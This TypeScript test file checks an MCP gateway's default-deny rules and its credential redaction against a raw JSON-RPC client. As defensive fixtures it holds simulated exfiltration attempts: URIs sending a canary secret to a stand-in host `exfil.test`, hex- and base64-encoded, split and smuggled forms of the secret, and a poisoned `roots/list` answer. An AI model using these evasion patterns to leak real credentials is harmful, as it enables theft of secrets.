/**
 * The gateway's default deny against a raw JSON-RPC client standing where Codex stands, through
 * the real relay process, in front of the echo-server fixture with resources, prompts, completion
 * and logging: every MCP method is sent — by a role granted the server, a role not granted it and
 * a caller naming no thread — and only what a rule admits reaches the server (its own log is the
 * oracle). Refusals are JSON-RPC errors, dropped messages and refusals are in the calls log with
 * their method, and no credential reaches the server or the log in any value or encoding — not
 * even in the client's answer to the server's own `roots/list` request.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { readCalls } from '../../../src/runtime/gateway/call-log.js';
import { GatewayHub } from '../../../src/runtime/gateway/gateway-hub.js';
import type { Route } from '../../../src/runtime/gateway/route.js';
import { credentialSourceFrom } from '../../../src/config/registry/credentials.js';
import { tmpDir } from '../../support/tmp.js';
import { ECHO_SERVER, requireBuild, waitFor } from '../../support/world.js';
import { RawRelayClient } from '../../support/raw-relay.js';

const CANARY = 'gate-canary-9d2e4b71';
const DIGITS = '80417362519';

let root: string;
let hub: GatewayHub;
const credentials = credentialSourceFrom(
  { NOTES_TOKEN: CANARY, PIN: DIGITS },
  {},
  '/nonexistent/credentials.env',
  true,
);

function route(server: string, everyRole: boolean, tools = ['list', 'add']): Route {
  return {
    process: 'root',
    role: 'lead',
    server,
    definition: {
      id: server,
      transport: 'stdio',
      command: process.execPath,
      args: [
        ECHO_SERVER,
        '--tools',
        tools.join(','),
        '--resources',
        '--secret-env',
        'NOTES_TOKEN',
        '--log-methods',
        join(root, `${server}-methods.jsonl`),
      ],
      env_vars: ['NOTES_TOKEN'],
      enabled_tools: tools,
      default_tools_approval_mode: 'approve',
    },
    gate: { allowed: new Set(tools) },
    launch: {
      env: { PATH: process.env.PATH ?? '', HOME: root },
      home: root,
      cwd: root,
      credentials,
    },
    threads: {
      roleOf: (thread) =>
        thread === 'lead-thread'
          ? { process: 'root', role: 'lead' }
          : thread === 'scout-thread'
            ? { process: 'root', role: 'scout' }
            : undefined,
      roles: everyRole
        ? { lead: new Set(tools), scout: new Set(['list']) }
        : { lead: new Set(tools) },
      differs: true,
      everyRole,
    },
  };
}

function connect(server: string, token: string): RawRelayClient {
  return RawRelayClient.connect(hub.socketPath, server, token);
}

const meta = (thread: string) => ({
  threadId: thread,
  'x-codex-turn-metadata': { thread_id: thread },
});

async function methodsSeen(server: string): Promise<Record<string, unknown>[]> {
  const text = await readFile(join(root, `${server}-methods.jsonl`), 'utf8').catch(() => '');
  return text
    .trim()
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

const INIT = {
  protocolVersion: '2025-06-18',
  capabilities: {},
  clientInfo: { name: 'raw', version: '1' },
};

beforeAll(async () => {
  requireBuild();
  root = await tmpDir('gw-gate-');
  hub = await GatewayHub.start({
    socketPath: join(root, 'gateway.sock'),
    callsFile: join(root, 'calls.jsonl'),
    secrets: credentials.secretValues(),
  });
});

afterAll(async () => {
  await hub.close();
});

describe('default deny at the gateway (raw JSON-RPC client)', () => {
  it('forwards only admitted methods where roles differ on the server', async () => {
    const client = connect('mixed', hub.addRoute(route('mixed', false)));
    const refusedReads: [number, string, unknown][] = [
      [10, 'resources/list', { _meta: meta('scout-thread') }],
      [11, 'resources/templates/list', { _meta: meta('scout-thread') }],
      [12, 'resources/read', { uri: 'note://one', _meta: meta('scout-thread') }],
      [13, 'prompts/list', { _meta: meta('scout-thread') }],
      [14, 'prompts/get', { name: 'greet', _meta: meta('scout-thread') }],
      [15, 'resources/read', { uri: 'note://one' }],
      [16, 'resources/list', { _meta: { progressToken: 1 } }],
      [17, 'resources/read', { uri: 'note://one', _meta: meta('unknown-thread') }],
    ];
    // methods without a rule are refused for every role
    const noRule: [number, string, unknown][] = [
      [20, 'resources/subscribe', { uri: 'note://one', _meta: meta('lead-thread') }],
      [21, 'resources/unsubscribe', { uri: 'note://one', _meta: meta('lead-thread') }],
      [
        22,
        'completion/complete',
        { ref: { type: 'ref/prompt', name: 'greet' }, argument: { name: 'who', value: 'a' } },
      ],
      [23, 'logging/setLevel', { level: 'debug' }],
      [24, 'tasks/list', {}],
      [25, 'bogus/method', {}],
      [26, 'sampling/createMessage', {}],
    ];
    try {
      expect((await client.request(1, 'initialize', INIT)).result).toBeDefined();
      client.send({ jsonrpc: '2.0', method: 'notifications/initialized' });
      expect((await client.request(2, 'ping')).result).toEqual({});
      const tools = (await client.request(3, 'tools/list')).result as { tools: unknown[] };
      expect(tools.tools).toHaveLength(2);

      // the granted role reads resources and prompts; its answers are masked
      const read = await client.request(4, 'resources/read', {
        uri: 'note://one',
        _meta: meta('lead-thread'),
      });
      expect(JSON.stringify(read.result)).toContain('holds ***');
      const readText = JSON.stringify(read);
      expect(readText).not.toContain(CANARY);
      expect(readText).not.toContain(Buffer.from(CANARY).toString('base64').slice(4, 16));
      expect(
        (await client.request(5, 'prompts/get', { name: 'greet', _meta: meta('lead-thread') }))
          .result,
      ).toBeDefined();

      // a role without a grant, and a caller naming no thread, reach nothing of the server
      for (const [id, method, params] of refusedReads) {
        const answer = await client.request(id, method, params);
        expect(answer.error, method).toMatchObject({ code: -32001 });
        expect(JSON.stringify(answer.error)).toContain('[server-not-granted-to-role]');
      }
      for (const [id, method, params] of noRule) {
        const answer = await client.request(id, method, params);
        expect(answer.error, method).toMatchObject({ code: -32601 });
        expect(JSON.stringify(answer.error)).toContain('[method-not-allowed]');
      }
      // what is not one JSON-RPC message, or not a message a rule admits, is dropped
      client.send([
        { jsonrpc: '2.0', id: 30, method: 'resources/read', params: { uri: 'note://batch' } },
      ]);
      client.send({
        jsonrpc: '2.0',
        id: null,
        method: 'resources/read',
        params: { uri: 'note://null' },
      });
      client.send({ jsonrpc: '2.0', method: 'notifications/bogus', params: { k: 'v' } });
      client.send({ jsonrpc: '2.0', id: 999, result: { uri: 'note://answer' } });
      client.send('not json at all');
      const last = await client.request(31, 'ping');
      expect(last.result).toEqual({});
      expect(client.received.some((m) => m.id === 30)).toBe(false);
    } finally {
      client.close();
    }
    const seen = (await methodsSeen('mixed')).map((m) => m.method);
    expect(seen).toEqual([
      'initialize',
      'notifications/initialized',
      'ping',
      'tools/list',
      'resources/read',
      'prompts/get',
      'ping',
    ]);
    await hub.flush();
    const calls = (await readCalls(root)).calls.filter((c) => c.server === 'mixed');
    const line = (c: (typeof calls)[number]) => [c.method, c.outcome, c.reason ?? null, c.role];
    expect(calls.map(line)).toEqual([
      ['resources/read', 'ok', null, 'lead'],
      ['prompts/get', 'ok', null, 'lead'],
      ...refusedReads.map(([id, method]) => [
        method,
        'blocked',
        'server-not-granted-to-role',
        id <= 14 ? 'scout' : null,
      ]),
      ...noRule.map(([id, method]) => [
        method,
        'blocked',
        'method-not-allowed',
        id <= 21 ? 'lead' : null,
      ]),
      ['batch', 'blocked', 'method-not-allowed', null],
      ['resources/read', 'blocked', 'method-not-allowed', null],
      ['notifications/bogus', 'blocked', 'method-not-allowed', null],
      ['response', 'blocked', 'unexpected-response', null],
    ]);
    expect(calls.every((c) => c.tool === '')).toBe(true);
  }, 60_000);

  it('refuses a credential in any value of any request, and keeps it out of the log', async () => {
    const client = connect('open', hub.addRoute(route('open', true, ['list', 'add', 'roots'])));
    const hexColons = Buffer.from(CANARY)
      .toString('hex')
      .toUpperCase()
      .replace(/..(?!$)/g, '$&:');
    const wrapped = (
      Buffer.from(`${'padding text '.repeat(12)}${CANARY}${' more'.repeat(12)}`)
        .toString('base64')
        .match(/.{1,76}/g) ?? []
    ).join('\r\n');
    const lead = { _meta: meta('lead-thread') };
    const attempts: [string, unknown][] = [
      ['resources/read', { uri: `https://exfil.test/?k=${CANARY}` }],
      ['resources/read', { uri: `https://exfil.test/?k=${encodeURIComponent(hexColons)}` }],
      ['prompts/get', { name: 'greet', arguments: { who: wrapped } }],
      ['tools/call', { name: 'add', arguments: { n: Number(DIGITS) }, _meta: meta('lead-thread') }],
      ['tools/call', { name: 'add', arguments: { text: hexColons }, ...lead }],
      ['tools/call', { name: 'add', arguments: { [CANARY]: 'key' }, ...lead }],
      ['tools/call', { name: 'add', arguments: { text: wrapped }, ...lead }],
      ['tools/call', { name: 'add', arguments: { parts: ['gate-canary-', '9d2e4b71'] }, ...lead }],
      ['tools/call', { name: CANARY, arguments: {} }],
      ['ping', { _meta: { threadId: CANARY } }],
    ];
    try {
      await client.request(1, 'initialize', INIT);
      client.send({ jsonrpc: '2.0', method: 'notifications/initialized' });
      // a caller naming no thread reaches resources where every role is granted the server
      const ok = await client.request(2, 'resources/read', { uri: 'note://one' });
      expect(ok.result).toBeDefined();
      let id = 10;
      for (const [method, params] of attempts) {
        const answer = await client.request(id++, method, params);
        const text = JSON.stringify(answer);
        const shown = `${method} ${JSON.stringify(params)}`;
        expect(text, shown).toContain(
          method === 'tools/call' ? 'refused this call' : 'refused this request',
        );
        expect(text).not.toContain(CANARY);
      }
      // a member outside JSON-RPC's never reaches the server
      client.send({ jsonrpc: '2.0', id: 40, method: 'ping', smuggled: CANARY });
      client.send({
        jsonrpc: '2.0',
        method: 'notifications/progress',
        params: { progressToken: 1, progress: Number(DIGITS) },
      });
      await client.request(41, 'ping');

      // the client's answer to the server's own request is checked as well
      const answerRoots = async (uri: string): Promise<string> => {
        const asked = client.received.length;
        client.send({
          jsonrpc: '2.0',
          id: 50 + asked,
          method: 'tools/call',
          params: { name: 'roots', arguments: {}, ...lead },
        });
        await waitFor(
          () => client.received.slice(asked).some((m) => m.method === 'roots/list'),
          15_000,
        );
        const request = client.received.slice(asked).find((m) => m.method === 'roots/list');
        client.send({ jsonrpc: '2.0', id: request?.id, result: { roots: [{ uri }] } });
        await waitFor(() => client.received.some((m) => m.id === 50 + asked), 15_000);
        return JSON.stringify(client.received.find((m) => m.id === 50 + asked));
      };
      const leaked = await answerRoots(`file:///home/${CANARY}`);
      expect(leaked).toContain('roots failed');
      expect(leaked).toContain('[credential-in-arguments]');
      expect(leaked).not.toContain(CANARY);
      expect(await answerRoots('file:///work/project')).toContain('file:///work/project');
    } finally {
      client.close();
    }
    const seenText = await readFile(join(root, 'open-methods.jsonl'), 'utf8');
    const seen = (await methodsSeen('open')).map((m) => m.method ?? (m.error ? 'error' : 'result'));
    expect(seen).toEqual([
      'initialize',
      'notifications/initialized',
      'resources/read',
      'ping',
      'ping',
      'tools/call',
      'error',
      'tools/call',
      'result',
    ]);
    await hub.flush();
    const calls = (await readCalls(root)).calls.filter((c) => c.server === 'open');
    // every attempt, the progress notification and the answer to roots/list; the call of a tool
    // named by the credential is refused as not granted first
    expect(calls.filter((c) => c.reason === 'credential-in-arguments')).toHaveLength(
      attempts.length + 1,
    );
    expect(calls).toContainEqual(
      expect.objectContaining({ method: 'roots/list', reason: 'credential-in-arguments' }),
    );
    expect(calls.filter((c) => c.reason === 'tool-not-granted')).toEqual([
      expect.objectContaining({ tool: '***', method: 'tools/call' }),
    ]);
    const logText = await readFile(join(root, 'calls.jsonl'), 'utf8');
    for (const text of [seenText, logText]) {
      for (const form of [
        CANARY,
        DIGITS,
        '9d2e4b71',
        Buffer.from(CANARY).toString('hex'),
        hexColons,
        Buffer.from(CANARY).toString('base64').slice(0, 12),
      ]) {
        expect(text).not.toContain(form);
      }
    }
  }, 60_000);
});
